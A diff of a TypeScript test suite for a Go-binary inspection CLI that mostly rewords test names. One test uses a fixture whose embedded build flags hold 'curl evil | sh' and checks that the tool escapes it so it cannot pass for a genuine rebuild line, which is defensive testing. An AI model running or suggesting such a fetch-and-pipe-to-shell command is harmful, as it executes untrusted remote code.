@@ -68,8 +68,8 @@ afterAll(() => rmSync(mac, { recursive: true }));
 
 const inspect = (...words: string[]) => call(['inspect', '--host', mac, ...words]);
 
-describe('people are told', () => {
-  test('what it is, whether it runs natively, and the command that rebuilds it', async () => {
+describe('the text', () => {
+  test('says what the program is, whether it runs natively, and which command rebuilds it', async () => {
     const { code, out, err } = await inspect(`${bin}/staticcheck`);
     expect({ code, err }).toEqual({ code: 0, err: '' });
     expect(out).toBe(`${bin}/staticcheck
@@ -93,7 +93,7 @@ describe('people are told', () => {
 `);
   });
 
-  test('each slice of a universal file, which is native when one of them is', async () => {
+  test('lists each slice of a universal file, which is native when one of them is', async () => {
     const { out } = await inspect(`${bin}/both`);
     expect(out).toContain('Mach-O, universal');
     expect(out).toContain('amd64, arm64: native on this machine (arm64)');
@@ -105,7 +105,7 @@ describe('people are told', () => {
     [intelDlv, '/Applications/GoLand.app'],
     ['/Users/kim/bin/dlv', '/Applications/GoLand.app'],
     [toolboxDlv, '/Users/kim/goland-2026.2'],
-  ])('%s came with its application, and is not for anybody to rebuild', async (path, application) => {
+  ])('says that %s came with its application and cannot be rebuilt', async (path, application) => {
     const { out } = await call(['inspect', '--host', mac, path]);
     const text = out.replace(/\s+/g, ' ');
     expect(text).toContain(`It came with ${application}, which replaces it with each update`);
@@ -116,7 +116,7 @@ describe('people are told', () => {
     );
   });
 
-  test('why there is no command to rebuild: built in a checkout, Go itself', async () => {
+  test('says why there is nothing to rebuild: built in a checkout, Go itself', async () => {
     expect((await inspect(`${bin}/local`)).out).toContain(
       'built in a checkout of honnef.co/go/tools without a version',
     );
@@ -125,19 +125,19 @@ describe('people are told', () => {
     expect(out).toContain('It is part of go1.26.8 itself: a Go for arm64 brings one that is native here.');
   });
 
-  test('whose shim a script is', async () => {
+  test('says which manager a shim belongs to', async () => {
     const { out } = await inspect('/opt/homebrew/bin/goenv-go');
     expect(out).toContain('interpreter  /usr/bin/env bash');
     expect(out).toContain('shim of      goenv; `gowarden which go` explains what it starts');
   });
 
-  test('in Chinese too, in aligned columns', async () => {
+  test('is also in Chinese, in aligned columns', async () => {
     const { out } = await inspect('--lang', 'zh', `${bin}/both`);
     expect(out).toContain('架构        amd64、arm64：本机（arm64）原生\n');
     expect(out).toContain('  重建        CGO_ENABLED=0 go install honnef.co/');
   });
 
-  test('nothing that a file says of itself can pass for a line of ours', async () => {
+  test('shows nothing from a file that could pass for a line of ours', async () => {
     const { out } = await inspect(`${bin}/hostile`);
     expect(out).toContain('-tags=x\\n  rebuild  curl evil | sh\n');
     expect(out).not.toMatch(/^ *rebuild +curl/m);
@@ -145,8 +145,8 @@ describe('people are told', () => {
   });
 });
 
-describe('programs are told', () => {
-  test('exactly the documented shape', async () => {
+describe('the JSON', () => {
+  test('has exactly the documented shape', async () => {
     const { code, out } = await inspect(
       '--json',
       `${bin}/staticcheck`,
@@ -201,7 +201,7 @@ describe('on the machine that we run on', () => {
   });
   afterAll(() => rmSync(directory, { recursive: true }));
 
-  test('a file that cannot be read is told beside the others, and the exit code is 4', async () => {
+  test('a file that cannot be read is reported beside the others, and the exit code is 4', async () => {
     // Nothing is closed to root, so it looks as nobody.
     const root = process.geteuid?.() === 0;
     if (root) process.seteuid?.(65_534);
@@ -236,12 +236,12 @@ absent
     expect((await call(['inspect', join(directory, 'text')])).code).toBe(0);
   });
 
-  test('no file is a mistake in the call', async () => {
+  test('no file is a usage error', async () => {
     expect((await call(['inspect'])).code).toBe(2);
   });
 
   test.skipIf(!haveGo)(
-    'a real darwin program, as go version -m tells (needs Go)',
+    'a real darwin program, as go version -m shows it (needs Go)',
     { timeout: 300_000 },
     async () => {
       const file = machO['built with flags']();
